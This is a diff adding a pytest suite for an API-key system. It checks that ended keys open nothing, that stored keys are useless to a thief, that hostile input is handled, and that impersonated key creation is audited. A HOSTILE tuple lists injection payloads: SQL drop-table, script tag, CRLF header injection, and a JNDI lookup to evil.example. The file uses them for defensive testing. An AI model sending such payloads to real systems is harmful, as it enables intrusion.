@@ -1,0 +1,247 @@
+"""SECURITY.md rows 3, 12, 14 and 20 for API keys: one that was ended in any way opens nothing from the next request on; what is kept of one
+is of no use to a thief; hostile text around one is data or a refusal; and whoever makes one in another's name is on record.
+"""
+
+from collections.abc import Awaitable, Callable, Mapping
+from dataclasses import dataclass, field, replace
+from typing import Any, Final
+from uuid import UUID, uuid4
+
+import pytest
+import trio
+
+from actors.presence import Presence
+from core.domain.api_keys import Permission
+from core.domain.events import SYSTEM
+from core.domain.governance import Authority
+from core.domain.identifiers import OrganizationId
+from entrypoints.bootstrap import Services
+from entrypoints.http.application import ROUTES
+from entrypoints.http.endpoints import Endpoint
+from tests.conftest import CapturedLog
+from tests.http import conftest as http
+from tests.http.client import Client, Received
+from tests.http.people import People, Person
+from tests.http.signing_in import unlimited
+from tests.http.tenants import Tenant, Tenants, UsedService
+from tests.http.test_authorization import KEY_RULES
+
+database_url, services, people = http.database_url, http.services, http.people
+
+INTERFACE: Final = [one for one in ROUTES if one.caller in KEY_RULES]
+KEYS: Final = "/api/organizations/acme/services/shop/api-keys"
+# What a request of each would change, were it let in.
+BODIES: Final[Mapping[str, Callable[["House"], Mapping[str, Any]]]] = {
+    "POST /api/service/users": lambda _: {"email": "new@example.org"},
+    "PATCH /api/service/users/{user_id}": lambda _: {"email": "changed@example.org"},
+    "POST /api/service/subscriptions": lambda house: {"user_id": str(house.user.user), "plan_id": str(house.plan)},
+    "PATCH /api/service/subscriptions/{user_id}": lambda _: {"status": "cancelled"},
+    "PATCH /api/service/info": lambda _: {"name": "Taken over"},
+}
+
+
+@dataclass
+class House:
+    """Acme with a shop that has a user, a plan and keys."""
+
+    services: Services
+    client: Client
+    tenants: Tenants
+    people: People
+    log: CapturedLog
+    acme: Tenant = field(init=False)
+    shop: UsedService = field(init=False)
+    owner: Person = field(init=False)
+    user: Person = field(init=False)
+    plan: UUID = field(init=False)
+
+    def __post_init__(self) -> None:
+        self.acme = self.tenants.add("acme")
+        self.shop = self.tenants.service(self.acme, "shop")
+        self.owner = self.tenants.member(self.acme, "owner", "owner@acme.example")
+        self.user = self.tenants.uses(self.people.add("user@example.org"), self.shop)
+        # One whose account came to be through the shop, so that its servers may change it.
+        self.people.change("update users set origin_service_id = %s where id = %s", self.shop.id, self.user.user)
+        self.plan = self.services.ids.new()
+        self.people.change(
+            "insert into plans (id, service_id, name, price_cents, currency, created_at, updated_at)"
+            " values (%s, %s, 'Pro', 0, 'usd', now(), now())",
+            self.plan,
+            self.shop.id,
+        )
+
+    async def manage(self, method: str, path: str, body: Any = None) -> Received:
+        return await self.client.request(method, path, body=body, token=await self.tenants.token(self.owner))
+
+    async def made(self, name: str = "Backend") -> dict[str, Any]:
+        answer = await self.manage("POST", KEYS, {"name": name, "permissions": [permission.value for permission in Permission]})
+        assert answer.status == 201, answer.body
+        key: dict[str, Any] = answer.json()
+        self.log.remember(key["key"])
+        return key
+
+    async def knock(self, one: Endpoint, key: str) -> Received:
+        body = BODIES[str(one)](self) if one.body_type is not None else None
+        path = one.path.replace("{user_id}", str(self.user.user))
+        return await self.client.request(one.method, path, body=body, headers=[("x-api-key", key)])
+
+    def state(self) -> Mapping[str, Any]:
+        tables = ("users", "service_users", "subscriptions", "services", "plans", "events", "audit_entries")
+        return {table: self.people.rows(f"select * from {table} order by 1, 2") for table in tables}
+
+
+@pytest.fixture
+def house(services: Services, people: People, log: CapturedLog) -> House:
+    client = unlimited(services, replace(http.SETTINGS, rate_limits=False))
+    return House(services, client, Tenants(services, people), people, log)
+
+
+def test_every_request_that_takes_a_body_has_one() -> None:
+    assert {str(one) for one in INTERFACE if one.body_type is not None} == set(BODIES)
+    assert len(INTERFACE) == 13
+
+
+async def deleted(house: House, key: Mapping[str, Any]) -> None:
+    assert (await house.manage("DELETE", f"{KEYS}/{key['id']}")).status == 204
+
+
+async def revoked(house: House, key: Mapping[str, Any]) -> None:
+    await house.services.api_keys.revoke(key["prefix"], "operator")
+
+
+async def expired(house: House, key: Mapping[str, Any]) -> None:
+    house.people.change("update api_keys set expires_at = now() where id = %s", key["id"])
+
+
+async def without_permissions(house: House, key: Mapping[str, Any]) -> None:
+    house.people.change("update api_keys set permissions = '{}' where id = %s", key["id"])
+
+
+async def service_deleted(house: House, _key: Mapping[str, Any]) -> None:
+    assert (await house.manage("DELETE", "/api/organizations/acme/services/shop")).status == 204
+
+
+async def organization_suspended(house: House, _key: Mapping[str, Any]) -> None:
+    await house.services.governance.suspend(OrganizationId(house.acme.id), "Unpaid", Authority(SYSTEM, "operator"))
+
+
+async def organization_deleted(house: House, _key: Mapping[str, Any]) -> None:
+    assert (await house.manage("DELETE", "/api/organizations/acme")).status == 204
+
+
+@pytest.mark.parametrize(
+    ("end", "refusal"),
+    [
+        (deleted, (401, "UNAUTHORIZED")),
+        (revoked, (401, "UNAUTHORIZED")),
+        (expired, (401, "UNAUTHORIZED")),
+        (without_permissions, (403, "FORBIDDEN")),
+        (service_deleted, (401, "UNAUTHORIZED")),
+        (organization_suspended, (403, "ORGANIZATION_NOT_ACTIVE")),
+        (organization_deleted, (401, "UNAUTHORIZED")),
+    ],
+)
+async def test_an_ended_key_opens_nothing_and_changes_nothing(
+    house: House, end: Callable[[House, Mapping[str, Any]], Awaitable[None]], refusal: tuple[int, str]
+) -> None:
+    key = await house.made()
+    assert (await house.client.get("/api/service/info", headers=[("x-api-key", key["key"])])).status == 200
+    await end(house, key)
+    before = house.state()
+    for one in INTERFACE:
+        answer = await house.knock(one, key["key"])
+        assert (answer.status, answer.error_code) == refusal, one
+        # It says no more than that: not why, nor of what service it was.
+        assert b"shop" not in answer.body
+        assert b"acme" not in answer.body
+    assert house.state() == before
+
+
+async def test_every_refused_key_gets_the_same_answer_whatever_is_wrong_with_it(house: House) -> None:
+    unknown, old, gone = "sk_abcdef_" + "x" * 43, await house.made(), await house.made()
+    await expired(house, old)
+    await deleted(house, gone)
+    answers = [await house.client.get("/api/service/info", headers=[("x-api-key", text)]) for text in (unknown, old["key"], gone["key"])]
+    told = [{**answer.json(), "timestamp": ""} for answer in answers]
+    assert told[0] == told[1] == told[2]
+    names = [sorted(name for name, _ in answer.headers) for answer in answers]
+    assert names[0] == names[1] == names[2]
+
+
+async def test_a_dump_of_the_database_has_no_key_in_it(house: House) -> None:
+    """Of keys that are used, that were refused, and that are gone; in every table, as text and as bytes."""
+    keys = [await house.made(f"Key {number}") for number in range(3)]
+    presence = house.services.api_keys._presence
+    assert isinstance(presence, Presence)
+    async with trio.open_nursery() as nursery:
+        await nursery.start(presence.run)
+        for key in keys:
+            for one in INTERFACE:
+                if one.method != "DELETE":
+                    assert (await house.knock(one, key["key"])).status in {200, 409}, one
+        await deleted(house, keys[2])
+        with trio.fail_after(10):
+            while len(house.people.rows("select id from api_keys where last_used_at is not null")) < 2:
+                await trio.sleep(0.1)
+        nursery.cancel_scope.cancel()
+    tables = house.people.rows("select tablename as name from pg_tables where schemaname = 'public'")
+    dump = "\n".join(str(house.people.rows(f'select kept::text from "{table["name"]}" as kept')) for table in tables)
+    assert keys[0]["prefix"] in dump
+    for key in keys:
+        random = key["key"].rpartition("_")[2]
+        for form in (key["key"], random, random[:20], random[-20:], random.encode().hex(), random[::-1]):
+            assert form not in dump
+    # What is there instead opens nothing.
+    for row in house.people.rows("select id, prefix, digest from api_keys"):
+        digest = bytes(row["digest"])
+        for text in (row["prefix"], digest.hex(), f"{row['prefix']}_{digest.hex()}", str(row["id"]), digest.decode("latin-1")):
+            answer = await house.client.get("/api/service/info", headers=[("x-api-key", text)])
+            assert answer.status == 401
+
+
+HOSTILE: Final = (
+    "'; drop table api_keys; --",
+    '<script>alert("x")</script>',
+    "a\r\nX-Injected: yes",
+    "null\0byte",
+    "\u202egnp.exe",
+    "%s%n{0}${jndi:ldap://evil.example}",
+    "\N{ROCKET}" * 50,
+    "\x1b[2J",
+    "{read:users,write:users}",
+)
+
+
+async def test_hostile_names_are_names_or_refused(house: House) -> None:
+    for text in HOSTILE:
+        answer = await house.manage("POST", KEYS, {"name": text, "permissions": ["read:users"]})
+        assert answer.status in {201, 400}, text
+        if answer.status == 201:
+            house.log.remember(answer.json()["key"])
+            kept = (await house.manage("GET", f"{KEYS}?limit=1")).json()["api_keys"][0]
+            assert (kept["id"], kept["name"]) == (answer.json()["id"], answer.json()["name"])
+            assert not set(kept["name"]) & set("\r\n\0\x1b\u202e")
+            assert kept["permissions"] == ["read:users"]
+    assert not house.log.events("request_failed")
+
+
+async def test_hostile_keys_are_no_keys(house: House) -> None:
+    for text in (*HOSTILE, "", "sk_", "a" * 201, "\u00ff" * 50):
+        answer = await house.client.get("/api/service/info", headers=[("x-api-key", text.encode().decode("latin-1"))])
+        assert (answer.status, answer.error_code) == (401, "UNAUTHORIZED"), text
+        assert answer.header("x-injected") is None
+    assert not house.log.events("request_failed")
+
+
+async def test_whoever_makes_a_key_in_anothers_name_is_on_record(house: House) -> None:
+    operator = house.people.add(platform_owner=True)
+    acting = house.tenants.session(house.owner, house.acme)
+    house.people.change(
+        "update sessions set impersonator_id = %s, impersonation_id = %s where id = %s", operator.user, uuid4(), acting.session
+    )
+    token = await house.tenants.token(acting, house.acme, token_use="impersonation", impersonator=str(operator.user))
+    answer = await house.client.post(KEYS, {"name": "X", "permissions": ["read:users"]}, token=token)
+    assert answer.status == 201
+    house.log.remember(answer.json()["key"])
+    (entry,) = house.people.rows("select actor_id, impersonator_id from audit_log where action = 'api_key.created'")
+    assert (entry["actor_id"], entry["impersonator_id"]) == (house.owner.user, operator.user)
